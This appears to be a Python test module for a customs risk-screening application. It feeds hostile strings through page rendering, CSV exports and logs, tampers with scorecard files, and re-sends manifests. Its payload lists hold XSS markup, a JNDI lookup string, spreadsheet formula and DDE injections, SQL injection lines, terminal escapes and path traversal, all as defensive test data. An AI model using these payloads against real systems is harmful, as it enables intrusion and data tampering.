"""Attacks by content: hostile text in every sink, altered scorecards, files sent again."""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import itertools
import logging
import random
import shutil
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
from sqlalchemy import text

from app import draw, words
from riskprofile.errors import ScorecardError
from riskprofile.intake import Chunk, quarantine
from riskprofile.intake import read as read_file
from riskprofile.intake.canonical_io import write_canonical
from riskprofile.intake.formulas import escape_formula
from riskprofile.intake.reader import Rejection
from riskprofile.profiles import PROFILES
from riskprofile.services import results, settings
from riskprofile.services.identity import OWNER
from riskprofile.services.run import Options
from riskprofile.services.screen import screen
from riskprofile.services.settings import CHECKOUT
from riskprofile.store import artefacts
from tests import factory
from tests.services.bench import NOW
from tests.trust.told import Told

EN = words.of("en")

_MARKUP = (
    "<script>alert(1)</script>", '"><img src=x onerror=f()>', "<svg/onload=f()>", "</div></body>",
    "<style>*{display:none}</style>", "<iframe src=//x.test>", "<a href=javascript:f()>x</a>",
    "![t](http://x.test/a.png)", "[x](http://x.test)", ":red[**SEIZED**]", ":material/check:",
    "$$\\href{http://x.test}{x}$$", "`x`", "# heading", "| a | b |\n|---|---|", "{{7*7}}",
    "${jndi:ldap://x.test/a}", "%s%n%x", "{0.__class__}", "&lt;b&gt;", "<!--", "]]>", "<?php x ?>",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", '=HYPERLINK("http://x.test")', "\t=1+1",
    "\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠x", "=\n1", "\n=1+1", "=DDE(\"a\",\"b\",\"c\")",
)  # fmt: skip
_CONTROLS = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "a\rb", "a\nINFO signed in", "a\u202eb", "a\u2066b",
    "a\u200bb", "\x00", "\ufeff", "\x85", "\u2028", "\x7f",
)  # fmt: skip
_QUERIES = ("' OR 1=1 --", "'; DROP TABLE alert; --", "%", "_", "\\", "../../x", "file:///x")
BASE = (*_MARKUP, *_FORMULAS, *_CONTROLS, *_QUERIES)
_AROUND: tuple[Callable[[str], str], ...] = (
    lambda one: one,
    lambda one: f"chairs {one} blue",
    lambda one: one * 3,
    lambda one: f"{one}\"'>",
    lambda one: one.upper(),
)


def payloads(count: int) -> list[str]:
    """Distinct hostile texts: each of the base in several surroundings."""
    made = dict.fromkeys(around(one) for around, one in itertools.product(_AROUND, BASE))
    return list(itertools.islice(made, count))


class _Outline(HTMLParser):
    """Tags and attributes of a piece of HTML, without its text."""

    def __init__(self, content: str) -> None:
        super().__init__()
        self.found: list[Any] = []
        self.feed(content)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, sorted(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")


def _pieces(given: str) -> dict[str, str]:
    """Every piece of a page that declared text is drawn into."""
    fired = [{"key": given, "text": given, "cleared_by": given, "check": given}]
    row = {"goods_description": given, "consignor_name": given, "consignee_address": given}
    term = {"term": given, "text": given, "points": 5, "value": given, "norm": given}
    return {
        "reasons": draw.reasons(EN, 5, [term], [], None),
        "indicators": draw.indicators(EN, fired),
        "declared": draw.declared(EN, row, given, [], given, {}),
        "table": draw.table((given,), [(given,)]),
        "figures": draw.kpis([(given, given)]),
        "strip": draw.strip(given, given, given),
        "state": draw.state(given, given),
        "pill": draw.pill(given),
    }


def sinks(count: int, folder: Path) -> Told:
    """Hostile texts in every piece of the page, every export, and the log.

    Held: a piece has the tags and attributes that it has for plain text; an exported
    cell reads back whole and starts no formula; nothing declared is in log or errors.
    """
    told, given = Told(), payloads(count)
    plain = {name: _Outline(content).found for name, content in _pieces("chairs").items()}
    for one in given:
        for name, content in _pieces(one).items():
            same = _Outline(content).found == plain[name]
            seen = any(sign in content for sign in "\u202e\u2066\u200b\x1b\x00")
            told.count(None if same and not seen else f"{name} obeys {one!r}")
    _exports(told, given, folder)
    _logs(told, given, folder)
    return told


def _exports(told: Told, given: list[str], folder: Path) -> None:
    rejections = [
        Rejection(one, n, "x", one, one, "hs_code", one) for n, one in enumerate(given, 1)
    ]
    quarantine.write(folder / "quarantine.csv", rejections)
    results.write_csv(
        pd.DataFrame({"record_id": given, "title": given, "points": range(len(given))}),
        folder / "results.csv",
    )
    columns = ("source", "record_id", "reason", "raw")
    _cells(told, folder / "quarantine.csv", given, columns)
    _cells(told, folder / "results.csv", given, ("record_id", "title"))
    table = factory.shipments(len(given), goods_description=given)
    table.drop(columns=["source", "line", "warnings"]).to_json(
        folder / "in.jsonl", orient="records", lines=True, date_format="iso"
    )
    chunks = list(read_file(folder / "in.jsonl"))
    stored = [str(one) for chunk in chunks for one in chunk.table["goods_description"].fillna("")]
    write_canonical(iter(chunks), folder / "out.csv")
    _cells(told, folder / "out.csv", stored, ("goods_description",))


def _cells(told: Told, file: Path, given: list[str], columns: tuple[str, ...]) -> None:
    with file.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    if len(rows) != len(given):
        told.count(f"{file.name}: {len(rows)} rows of {len(given)}")
        return
    for one, row in zip(given, rows, strict=True):
        for column in columns:
            cell, wanted = row[column], escape_formula(one)
            safe = cell == wanted and not _runs(cell)
            told.count(None if safe else f"{file.name} {column}: {one!r} is {cell!r}")


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would take this text for a formula."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in tuple("=+-@\t\r\n＝＋－＠")
    return False


def _logs(told: Told, given: list[str], folder: Path) -> None:
    """A file whose every row carries hostile text, half of them unreadable, through a run."""
    home = settings.load({}, home=folder / "home")
    store = settings.open_store(home)
    marked = [f"zq{n:05d} {one}" for n, one in enumerate(given)]
    table = factory.shipments(len(given), goods_description=marked, consignor_name=marked)
    table = table.drop(columns=["source", "line", "warnings"]).astype({"hs_code": "object"})
    table.loc[table.index % 2 == 1, "hs_code"] = [f"{one} hs" for one in marked[1::2]]
    file = folder / "hostile.jsonl"
    table.to_json(file, orient="records", lines=True, date_format="iso")
    heard = io.StringIO()
    handler = logging.StreamHandler(heard)
    root = logging.getLogger()
    before = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        with contextlib.redirect_stderr(heard), contextlib.redirect_stdout(heard):
            screen(store, home, OWNER, [file], Options(max_bad_share=1.0), NOW)
    finally:
        root.removeHandler(handler)
        root.setLevel(before)
        store.close()
    said = heard.getvalue()
    for number, one in enumerate(marked):
        told.count(f"the log holds {one!r}" if f"zq{number:05d}" in said else None)


# ------------------------------------------------------------------ scorecards


def scorecards(count: int, folder: Path) -> Told:
    """Bit flips, cuts, swaps, other versions, links, manifests made anew: all refused."""
    told, chance = Told(), random.Random("scorecards")
    shutil.copytree(CHECKOUT / "models", folder / "models")
    profiles = sorted(path.name for path in (folder / "models").iterdir() if path.is_dir())
    for number in range(count):
        profile = profiles[number % len(profiles)]
        version = (folder / "models" / profile / artefacts.CURRENT).read_text("utf-8").strip()
        place = folder / "models" / profile / version
        listed = sorted(path.name for path in place.iterdir())
        name = chance.choice(listed)
        path = place / name
        content = path.read_bytes()
        other = place / chance.choice([one for one in listed if one != name])
        kind = number // len(profiles) % 8
        what = f"{profile} {name} kind {kind}"
        kept: bytes | None = None
        try:
            if kind < 3:
                changed = bytearray(content)
                changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
                path.write_bytes(changed)
            elif kind == 3:
                path.write_bytes(content[: chance.randrange(len(content))])
            elif kind == 4:
                path.write_bytes(content + chance.choice((b"\0", b"\n", b" ", content)))
            elif kind == 5:
                kept = other.read_bytes()
                path.write_bytes(kept)
                other.write_bytes(content)
            elif kind == 6:
                path.unlink()
            else:
                path.rename(folder / "elsewhere")
                path.symlink_to(folder / "elsewhere")
            try:
                artefacts.load(folder / "models", profile, version)
                told.count(f"{what} was loaded")
            except ScorecardError:
                told.count(None)
            except Exception as error:
                told.count(f"{what}: {type(error).__name__}: {error}")
        finally:
            path.unlink(missing_ok=True)
            path.write_bytes(content)
            if kept is not None:
                other.write_bytes(kept)
    for profile in profiles:
        artefacts.serving(folder / "models", profile)  # what is whole still serves
    return told


# ------------------------------------------------------------------ files sent again


def repeats(count: int, folder: Path) -> Told:
    """One manifest sent again in many guises: no new alert, or exactly one new version."""
    told, chance, rows = Told(), random.Random("repeats"), 30
    home = settings.load({}, home=folder / "home")
    store = settings.open_store(home)
    table = factory.shipments(rows).drop(columns=["source", "line", "warnings"])
    first = folder / "day.csv"
    table.to_csv(first, index=False)
    screen(store, home, OWNER, [first], Options(), NOW)

    def held() -> tuple[int, int]:
        with store.read() as connection:
            asked = "SELECT (SELECT count(*) FROM alert), (SELECT count(*) FROM record)"
            alerts, records = connection.execute(text(asked)).one()
        return int(alerts), int(records)

    for number in range(count):
        kind = number % 7
        plain = first.read_bytes()
        name = f"again{number}.csv"
        new = 0
        if kind == 1:
            content = b"\xef\xbb\xbf" + plain
        elif kind == 2:
            content = table.sample(frac=1, random_state=number).to_csv(index=False).encode()
        elif kind == 3:
            name, content = f"again{number}.csv.gz", gzip.compress(plain, mtime=number)
        elif kind == 4:
            out = io.BytesIO()
            with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr(f"n{number}.csv", plain)
            name, content = f"again{number}.zip", out.getvalue()
        elif kind == 5:
            content = plain.replace(b"\n", b"\r\n")
        elif kind == 6:
            new = 1
            table.loc[chance.randrange(rows), "gross_mass_kg"] = 450.0 + 1 + number
            content = table.to_csv(index=False).encode()
        else:
            content = plain
        path = folder / name
        path.write_bytes(content)
        before = held()
        summary = screen(store, home, OWNER, [path], Options(), NOW).summary
        after = held()
        added = after[1] - before[1]
        fair = added == new and summary.accepted == new
        fair = fair and summary.read == summary.accepted + summary.quarantined + summary.duplicate
        fair = fair and (after[0] - before[0] <= new)
        told.count(None if fair else f"{name}: {added} new records, {after[0] - before[0]} alerts")
        if new:  # from now on the changed manifest is the manifest
            first.write_bytes(content)
    store.close()
    return told


def formulas(count: int, folder: Path) -> Told:
    """Formulas in every column of text of the canonical table, written as CSV."""
    told, given = Told(), [one for one in payloads(len(BASE) * len(_AROUND)) if _runs(one)][:count]
    for profile, make in (("shipment", factory.shipments), ("traveller", factory.travellers)):
        columns = [spec.name for spec in PROFILES[profile].columns if spec.kind == "text"]
        table = make(len(given), **dict.fromkeys(columns, given))
        chunk = Chunk(profile, table, [], len(table), "jsonl")
        write_canonical(iter([chunk]), folder / f"{profile}.csv")
        _cells(told, folder / f"{profile}.csv", given, tuple(columns))
    return told
